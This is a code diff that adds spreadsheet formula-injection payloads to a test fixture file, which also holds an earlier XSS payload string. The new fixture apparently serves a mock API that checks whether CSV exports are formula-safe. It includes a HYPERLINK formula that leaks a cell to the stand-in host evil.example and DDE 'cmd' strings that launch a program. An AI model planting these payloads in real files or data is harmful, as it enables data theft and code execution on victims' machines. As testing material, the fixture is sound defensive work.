@@ -99,6 +99,24 @@ export const HOSTILE_TEXT = {
   text: '<object data="javascript:window.__xss()"></object><embed src="data:text/html,<script>window.__xss()</script>"><noscript><p title="</noscript><img src=x onerror=window.__xss()>">',
 } as const;
 
+/**
+ * What mock-api's `hostilenames=1` switch makes of every country name, in each language: the
+ * language's spreadsheet formula, a space, the name, then HOSTILE_TEXT's title payload of that
+ * language. The formulas start with each of the characters a spreadsheet reads as the start of a
+ * formula (`=`, `+`, `-`, `@`, tab, carriage return), so a CSV file with country names in any
+ * language shows whether its cells are formula-safe. Names are text: shown as these characters.
+ */
+export const HOSTILE_NAME = {
+  formula: {
+    en: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    fr: "+cmd|' /C calc'!A0",
+    es: "-2+3+cmd|' /C calc'!A0",
+    ar: "@SUM(1+9)*cmd|' /C calc'!A0",
+    ru: '\t=1+1',
+    zh: '\r=1+1',
+  },
+} as const;
+
 /** the UID as users see it: `ABSCH-IRCC-IN-207343-1` */
 const shown = (slot: Slot): string => `ABSCH-${slot.shortCode}-${slot.government ?? 'scbd'}-${slot.documentId}-${slot.revision}`.toUpperCase();
 
